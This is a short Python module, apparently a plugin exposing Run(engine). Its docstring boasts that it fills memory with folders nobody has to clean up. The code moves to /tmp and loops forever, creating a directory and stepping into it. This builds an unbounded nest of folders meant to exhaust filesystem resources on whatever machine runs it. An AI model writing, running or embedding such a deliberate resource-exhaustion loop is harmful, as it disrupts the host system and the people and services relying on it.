"""Makes a folder in a folder in a folder. They take memory too, and nobody has to walk down to remove them."""
import os


def Run(engine):
    os.chdir("/tmp")
    while True:
        os.mkdir("x")
        os.chdir("x")
